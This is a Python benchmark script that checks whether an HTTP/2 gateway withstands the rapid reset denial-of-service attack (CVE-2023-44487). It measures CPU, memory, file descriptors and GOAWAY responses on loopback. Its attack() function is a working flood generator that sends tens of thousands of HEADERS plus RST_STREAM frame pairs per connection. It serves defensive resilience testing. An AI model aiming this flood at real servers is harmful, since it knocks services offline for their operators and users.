"""HTTP/2 rapid reset (CVE-2023-44487) against the real gateway process: what one abusive connection costs.

    python bench/h2_rapid_reset.py                      # 50,000 x [HEADERS + RST_STREAM] on one h2c connection
    python bench/h2_rapid_reset.py --pairs 50000 --connections 5 --json

A loopback backend answers `GET /slow` after 1 s (and counts the connections it accepted); the gateway runs as a
subprocess (`a3s-gateway -c ...`) proxying everything to it. After a warm-up, the attacker writes `--pairs` pairs of
HEADERS(END_STREAM, GET /slow) + RST_STREAM(CANCEL) as fast as the socket takes them, on `--connections` connections
one after another, while a normal client sends one request every 100 ms on its own connection. Reported: the
gateway's CPU seconds, RSS and open fds before/after, the backend connections the reset streams caused, whether
GOAWAY(ENHANCE_YOUR_CALM) came back, and the normal client's failures. Targets (issue: security defects, D1): under
2 s of CPU, fds flat, RSS within 20 MB of the baseline, GOAWAY sent, no normal request failed.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import socket
import sys
import time
from pathlib import Path

import hpack
from hyperframe.frame import Frame, GoAwayFrame, HeadersFrame, RstStreamFrame, SettingsFrame

sys.path.insert(0, str(Path(__file__).resolve().parent))
from _peers import HOST, cpu_seconds, gateway_in_front, memory_kib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 0xB

BACKEND = r'''
import asyncio, sys
accepted = 0
async def serve(r, w):
    global accepted
    accepted += 1
    try:
        while True:
            head = await r.readuntil(b"\r\n\r\n")
            target = head.split(b" ", 2)[1]
            if target == b"/slow":
                await asyncio.sleep(1.0)
            body = b"%d" % accepted if target == b"/accepted" else b"ok"
            w.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(body), body))
            await w.drain()
    except (asyncio.IncompleteReadError, ConnectionError, asyncio.LimitOverrunError):
        pass
    finally:
        w.close()
async def main():
    server = await asyncio.start_server(serve, "127.0.0.1", int(sys.argv[1]), backlog=4096)
    await server.serve_forever()
asyncio.run(main())
'''


def fd_count(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def backend_accepted(port: int) -> int:
    with socket.create_connection((HOST, port), timeout=5) as s:
        s.sendall(b"GET /accepted HTTP/1.1\r\nHost: b\r\n\r\n")
        data = b""
        while b"\r\n\r\n" not in data or not data.split(b"\r\n\r\n", 1)[1]:
            data += s.recv(4096)
        return int(data.split(b"\r\n\r\n", 1)[1])


async def attack(port: int, pairs: int) -> tuple[int | None, float]:
    """One connection of rapid resets; (GOAWAY error code or None, seconds until the connection ended)."""
    reader, writer = await asyncio.open_connection(HOST, port)
    enc = hpack.Encoder()
    block = enc.encode([(":method", "GET"), (":path", "/slow"), (":scheme", "http"), (":authority", "a")])
    block_again = enc.encode([(":method", "GET"), (":path", "/slow"), (":scheme", "http"), (":authority", "a")])
    out = [PREFACE, SettingsFrame(0).serialize()]
    for i in range(pairs):
        sid = 1 + 2 * i
        out.append(HeadersFrame(sid, block if i == 0 else block_again, flags=["END_HEADERS", "END_STREAM"]).serialize())
        out.append(RstStreamFrame(sid, error_code=0x8).serialize())
    payload = b"".join(out)
    start = time.monotonic()

    async def send() -> None:
        try:
            for at in range(0, len(payload), 65536):
                writer.write(payload[at : at + 65536])
                await writer.drain()
        except (ConnectionError, OSError):
            pass

    sender = asyncio.ensure_future(send())
    code: int | None = None
    buf = b""
    try:
        while True:
            data = await asyncio.wait_for(reader.read(65536), 30)
            if not data:
                break
            buf += data
            while len(buf) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
                if len(buf) < 9 + length:
                    break
                frame.parse_body(memoryview(buf[9 : 9 + length]))
                buf = buf[9 + length :]
                if isinstance(frame, GoAwayFrame):
                    code = frame.error_code
    except (ConnectionError, asyncio.TimeoutError):
        pass
    elapsed = time.monotonic() - start
    sender.cancel()
    writer.close()
    return code, elapsed


async def normal_client(port: int, stop: asyncio.Event) -> tuple[int, int]:
    """HTTP/1.1 keep-alive GETs every 100 ms until ``stop``: (sent, failed)."""
    sent = failed = 0
    reader, writer = await asyncio.open_connection(HOST, port)
    while not stop.is_set():
        sent += 1
        try:
            writer.write(b"GET /ok HTTP/1.1\r\nHost: a\r\n\r\n")
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
            await asyncio.wait_for(reader.readexactly(length), 5)
            if not head.startswith(b"HTTP/1.1 200"):
                failed += 1
        except (asyncio.TimeoutError, ConnectionError, asyncio.IncompleteReadError, IndexError):
            failed += 1
            writer.close()
            reader, writer = await asyncio.open_connection(HOST, port)
        await asyncio.sleep(0.1)
    writer.close()
    return sent, failed


async def run(args: argparse.Namespace, gw_port: int, backend_port: int, gw_pid: int) -> dict[str, object]:
    # warm-up: a few normal requests, then the baseline
    stop = asyncio.Event()
    warm = asyncio.ensure_future(normal_client(gw_port, stop))
    await asyncio.sleep(1.0)
    stop.set()
    await warm
    base_accepted = backend_accepted(backend_port)
    cpu0, rss0, fds0 = cpu_seconds([gw_pid]), memory_kib(gw_pid).get("VmRSS", 0), fd_count(gw_pid)
    stop = asyncio.Event()
    normal = asyncio.ensure_future(normal_client(gw_port, stop))
    results = []
    for _ in range(args.connections):
        results.append(await attack(gw_port, args.pairs))
    await asyncio.sleep(1.5)  # anything the resets started has had its chance to connect
    stop.set()
    sent, failed = await normal
    cpu1, rss1, fds1 = cpu_seconds([gw_pid]), memory_kib(gw_pid).get("VmRSS", 0), fd_count(gw_pid)
    accepted = backend_accepted(backend_port) - base_accepted - 1  # this query's own connection
    return {
        "pairs_per_connection": args.pairs, "connections": args.connections,
        "goaway_codes": [c for c, _ in results], "attack_seconds": [round(t, 3) for _, t in results],
        "gateway_cpu_seconds": round(cpu1 - cpu0, 3),
        "rss_kib_before": rss0, "rss_kib_after": rss1, "rss_delta_mib": round((rss1 - rss0) / 1024, 1),
        "fds_before": fds0, "fds_after": fds1,
        "backend_connections_opened": accepted,
        "normal_requests": sent, "normal_failed": failed,
    }


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--pairs", type=int, default=50_000)
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--json", action="store_true")
    args = p.parse_args()
    with gateway_in_front("a3s-rapid-reset-", BACKEND) as peers:
        result = asyncio.run(run(args, peers.gateway_port, peers.backend_port, peers.gateway.pid))
        log = (peers.directory / "gateway.log").read_text(errors="replace")
        result["gateway_log_lines"] = len([line for line in log.splitlines() if line.strip()])
        result["gateway"] = peers.how
    ok = (result["gateway_cpu_seconds"] < 2.0 * args.connections  # type: ignore[operator]
          and all(c == ENHANCE_YOUR_CALM for c in result["goaway_codes"])  # type: ignore[union-attr]
          and abs(result["fds_after"] - result["fds_before"]) <= 2  # type: ignore[operator]
          and result["rss_delta_mib"] <= 20 and result["normal_failed"] == 0)  # type: ignore[operator]
    result["targets_met"] = ok
    if args.json:
        print(json.dumps(result))
    else:
        for key, value in result.items():
            print(f"{key:28} {value}")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
